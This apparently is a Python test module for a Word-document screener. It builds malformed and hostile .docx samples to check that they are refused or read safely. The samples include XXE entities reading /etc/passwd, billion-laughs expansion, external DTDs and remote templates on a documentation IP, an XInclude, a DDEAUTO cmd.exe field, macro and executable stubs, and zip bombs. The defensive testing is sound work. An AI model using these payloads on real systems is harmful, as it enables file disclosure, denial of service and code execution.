"""Word files with entities, missing or lying parts, references to elsewhere, macros, locks and depth."""

import io
import zipfile
from collections.abc import Callable

from screener.words.draft import HiddenHow
from tests.doors.documents.word_files import paragraph, part, run, word_file
from tests.hostile.archives import BOMB, DAMAGED, LARGE, MANY, MIB
from tests.hostile.kinds import Kind
from tests.hostile.zips import Entry, zip_of

GROUP = "Word tricks"
WORDS = "The monitor reads every step that the agent takes."
BODY = paragraph(WORDS)
ENTITIES = "declares XML entities|document type"
UNSOUND = "not sound XML|damaged"
NO_WORD = "holds no Word document|cannot be screened|damaged"
_R = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_XXE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def _document(head: str = "", body: str = BODY, encoding: str = "utf-8") -> bytes:
    whole = part("document", f"<w:body>{body}</w:body>")
    declared, rest = whole.split("?>", 1)
    return f"{declared.replace('UTF-8', encoding)}?>{head}{rest}".encode(encoding)


def remade(change: dict[str, bytes | None], original: bytes | None = None) -> bytes:
    """A Word file with some parts replaced, added or (None) taken out."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(original or word_file(BODY))) as old, zipfile.ZipFile(out, "w", 8) as new:
        for path in old.namelist():
            if path not in change:
                new.writestr(zipfile.ZipInfo(path), old.read(path))
        for path, content in change.items():
            if content is not None:
                new.writestr(zipfile.ZipInfo(path), content, 8)
    return out.getvalue()


def _with(document: bytes) -> bytes:
    return remade({"word/document.xml": document})


def _related(entries: str) -> bytes:
    return remade({"word/_rels/document.xml.rels": f"<Relationships {_R}>{entries}</Relationships>".encode()})


def _outer(entries: str) -> bytes:
    return remade({"_rels/.rels": f"<Relationships {_R}>{entries}</Relationships>".encode()})


def _tables(depth: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * depth + paragraph("inner") + f"</w:tc></w:tr></w:tbl>{paragraph('')}" * depth


def _linked(kind: str, target: str) -> bytes:
    return _related(f'<Relationship Id="r9" Type="{_KIND}/{kind}" Target="{target}" TargetMode="External"/>')


def _read(name: str, make: Callable[[], bytes], **answer: object) -> Kind:
    return Kind(name, GROUP, make, "draft.docx", shown=(WORDS,), **answer)  # type: ignore[arg-type]


def _refused(name: str, make: Callable[[], bytes], sentence: str) -> Kind:
    return Kind(name, GROUP, make, "draft.docx", refused=sentence)


def _either(name: str, make: Callable[[], bytes], sentence: str) -> Kind:
    return Kind(name, GROUP, make, "draft.docx", refused=sentence, either=True)


def _real(change: Callable[[object], None] | None = None) -> bytes:
    """A file as a program writes it, with all its usual parts."""
    import docx

    document = docx.Document()
    document.add_heading("A title", 1)
    document.add_paragraph(WORDS)
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _cut(share: float) -> Callable[[], bytes]:
    return lambda: _real()[: int(len(_real()) * share)]


def _looping_styles() -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="S{n}"><w:basedOn w:val="S{(n + 1) % 3}"/></w:style>' for n in range(3)
    )
    return word_file(paragraph(WORDS, '<w:pStyle w:val="S0"/>'), styles=part("styles", styles))


def _looping_notes() -> bytes:
    reference = '<w:r><w:footnoteReference w:id="1"/></w:r>'
    note = f'<w:footnote w:id="1">{paragraph(run("note ") + reference)}</w:footnote>'
    return word_file(paragraph(run(WORDS) + reference), footnotes=part("footnotes", note))


def _looping_header() -> bytes:
    """A header part whose own relations lead back to it."""
    return remade(
        {
            "word/header1.xml": part("hdr", paragraph("head")).encode(),
            "word/_rels/header1.xml.rels": (
                f'<Relationships {_R}><Relationship Id="r1" Type="{_KIND}/header" Target="header1.xml"/></Relationships>'
            ).encode(),
        }
    )


_ENTITIES = (
    _refused("an entity that reads a file", lambda: _with(_document(_XXE, paragraph(run("&x;")))), ENTITIES),
    _refused(
        "a million laughs",
        lambda: _with(_document(f"<!DOCTYPE d [<!ENTITY l0 'ha'>{_LAUGHS}]>", run("&l9;"))),
        ENTITIES,
    ),
    _refused(
        "an entity of parameters from the web",
        lambda: _with(_document('<!DOCTYPE d [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>')),
        ENTITIES,
    ),
    _refused(
        "a document type from the web",
        lambda: _with(_document('<!DOCTYPE d SYSTEM "http://192.0.2.1/x.dtd">')),
        ENTITIES,
    ),
    _refused("an entity in UTF-16", lambda: _with(_document(_XXE, paragraph(run("&x;")), "utf-16")), ENTITIES),
    _refused(
        "an entity in UTF-16 of the other order",
        lambda: _with(b"\xfe\xff" + _document(_XXE, paragraph(run("&x;")), "utf-16-be")),
        f"{ENTITIES}|{UNSOUND}",
    ),
    _refused(
        "an entity in UTF-7", lambda: _with(_document(_XXE, paragraph(run("&x;")), "utf-7")), f"{ENTITIES}|{UNSOUND}"
    ),
    _refused(
        "an entity in the relations", lambda: remade({"_rels/.rels": b'<!DOCTYPE d [<!ENTITY x "y">]><a/>'}), ENTITIES
    ),
    _refused(
        "an entity in the comments",
        lambda: word_file(BODY, comments=_XXE + part("comments", "&x;").split("?>", 1)[1]),
        ENTITIES,
    ),
    _either(
        "a part drawn in from elsewhere",
        lambda: _with(
            _document(
                "",
                f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>{BODY}',
            )
        ),
        "none",
    ),
)
_PARTS = (
    _refused("no document part", lambda: remade({"word/document.xml": None, "word/styles.xml": b"<a/>"}), NO_WORD),
    _refused("a document part of another kind", lambda: _with(b"<html><body>x</body></html>"), f"{NO_WORD}|no text"),
    _refused("an empty document part", lambda: _with(b""), UNSOUND),
    _refused("a document part cut short", lambda: _with(_document()[:-30]), UNSOUND),
    _refused("a document part of NULs", lambda: _with(b"\0" * 500), UNSOUND),
    _read("no relations at all", lambda: remade({"_rels/.rels": None, "word/_rels/document.xml.rels": None})),
    _read("no list of content types", lambda: remade({"[Content_Types].xml": None})),
    _read(
        "relations to parts that are missing",
        lambda: _related(f'<Relationship Id="r1" Type="{_KIND}/styles" Target="gone.xml"/>'),
    ),
    _read(
        "relations out of the file",
        lambda: _related(f'<Relationship Id="r1" Type="{_KIND}/styles" Target="../../../../etc/passwd"/>'),
    ),
    _read(
        "the document under another name",
        lambda: remade(
            {
                "word/document.xml": None,
                "word/body.xml": _document(),
                "_rels/.rels": (
                    f'<Relationships {_R}><Relationship Id="r" Type="{_KIND}/officeDocument" Target="word/body.xml"/>'
                    "</Relationships>"
                ).encode(),
            }
        ),
    ),
    _read(
        "a second document beside the first",
        lambda: remade({"word/document2.xml": _document("", paragraph("SECOND"))}),
        not_shown=("SECOND",),
    ),
    _either(
        "a relation that makes the styles the document",
        lambda: _outer(f'<Relationship Id="r" Type="{_KIND}/officeDocument" Target="word/styles.xml"/>'),
        NO_WORD,
    ),
    _read("a template from the web", lambda: _linked("attachedTemplate", "http://192.0.2.1/evil.dotm")),
    _read("a frame from a file server", lambda: _linked("frame", "\\\\192.0.2.1\\share\\x")),
    _read("an image from the web", lambda: _linked("image", "http://192.0.2.1/pixel.png")),
    _read("styles from the web", lambda: _linked("styles", "http://192.0.2.1/styles.xml")),
    _read(
        "a field that asks another program",
        lambda: word_file(
            BODY + '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"><w:r><w:t>field</w:t></w:r></w:fldSimple></w:p>'
        ),
    ),
    _read("macros", lambda: remade({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 99}), notes=("embedded",)),
    _read(
        "an embedded program",
        lambda: remade({"word/embeddings/oleObject1.bin": b"MZ" + b"\0" * 99}),
        notes=("embedded",),
    ),
    _read(
        "another Word file embedded as text",
        lambda: remade({"word/chunk.docx": word_file(paragraph("CHUNK"))}, word_file(BODY + '<w:altChunk r:id="r1"/>')),
        not_shown=("CHUNK",),
    ),
)
_DEPTH = (
    _either("tables nested 60 deep", lambda: word_file(BODY + _tables(60)), "too deeply|sound XML"),
    _refused("tables nested 5,000 deep", lambda: word_file(BODY + _tables(5_000)), "too deeply|sound XML"),
    _refused(
        "elements nested 100,000 deep",
        lambda: _with(_document("", "<w:sdt>" * 100_000 + "</w:sdt>" * 100_000)),
        "too deeply|sound XML",
    ),
    _read("styles that follow from each other in a ring", _looping_styles),
    _read("a note that refers to itself", _looping_notes),
    _read("a header that leads to itself", _looping_header),
    _either(
        "one run of 40 million letters",
        lambda: _with(_document("", paragraph(run("word " * 8_000_000)))),
        "MiB|of memory|bomb|sound XML",
    ),
    _either(
        "200,000 paragraphs",
        lambda: _with(_document("", "<w:p><w:r><w:t>a b</w:t></w:r></w:p>" * 200_000)),
        "MiB|of memory|bomb|processor",
    ),
    _read(
        "an element with 100,000 attributes",
        lambda: _with(_document("", BODY + "<w:x " + " ".join(f'a{n}=""' for n in range(100_000)) + "/>")),
    ),
    _read(
        "a table of one row that says it spans 10^9 columns",
        lambda: word_file(
            BODY
            + f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>{paragraph("cell")}</w:tc></w:tr></w:tbl>'
        ),
    ),
    _read(
        "a list that starts at 10^30",
        lambda: word_file(
            paragraph(WORDS, '<w:numPr><w:ilvl w:val="99999"/><w:numId w:val="1"/></w:numPr>'),
            numbering=part(
                "numbering",
                f'<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="{10**30}"/>'
                '<w:numFmt w:val="lowerRoman"/></w:lvl></w:abstractNum>'
                '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
            ),
        ),
    ),
)
_SHELLS = (
    _refused("the document part is a bomb by ratio", lambda: _with(b"<a>" + b" " * 20 * MIB), BOMB),
    _refused("an image part is a bomb by ratio", lambda: remade({"word/media/a.png": b"\0" * 20 * MIB}), BOMB),
    _refused(
        "50,000 parts",
        lambda: zip_of(Entry(b"word/document.xml", b"<a/>"), *(Entry(b"word/%d" % n, method=0) for n in range(50_000))),
        MANY,
    ),
    _refused("a wrong checksum", lambda: zip_of(Entry(b"word/document.xml", _document(), crc=7)), DAMAGED),
    _refused(
        "a lie about the size",
        lambda: zip_of(Entry(b"word/document.xml", _document(), size=50)),
        f"{DAMAGED}|{UNSOUND}",
    ),
    _refused(
        "a size of thousands of gigabytes",
        lambda: zip_of(Entry(b"word/document.xml", _document(), size=2**32 - 2)),
        f"{LARGE}|{BOMB}",
    ),
    _refused(
        "parts locked by a password", lambda: zip_of(Entry(b"word/document.xml", _document(), flags=1)), "password"
    ),
    _refused(
        "a file locked as a whole",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") * 40,
        "password",
    ),
    _refused(
        "a .doc named .docx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument".encode("utf-16-le") * 40,
        "old .doc",
    ),
    _refused(
        "a workbook named .docx", lambda: zip_of(Entry(b"[Content_Types].xml"), Entry(b"xl/workbook.xml")), "Excel"
    ),
    *(_refused(f"cut at {int(share * 100)} %", _cut(share), DAMAGED) for share in (0.1, 0.3, 0.5, 0.7, 0.9, 0.99)),
    _refused(
        "two document parts of one name",
        lambda: zip_of(
            Entry(b"word/document.xml", _document("", paragraph("EARLIER"))), Entry(b"word/document.xml", _document())
        ),
        "two parts of one name",
    ),
    _refused(
        "parts whose names differ in case",
        lambda: remade({"word/Document.xml": _document("", paragraph("OTHER"))}),
        "two parts of one name",
    ),
)
_ORDINARY = (
    _read("an ordinary Word file", _real, ordinary=True),
    _read("an ordinary file named .zip", _real, ordinary=True),
    _read(
        "a file with an ordinary comment",
        lambda: word_file(BODY, comments=part("comments", f'<w:comment w:id="0">{paragraph("ask Ann")}</w:comment>')),
        alerts=(HiddenHow.comment,),
        said=("ask Ann",),
    ),
)
KINDS: tuple[Kind, ...] = _ENTITIES + _PARTS + _DEPTH + _SHELLS + _ORDINARY
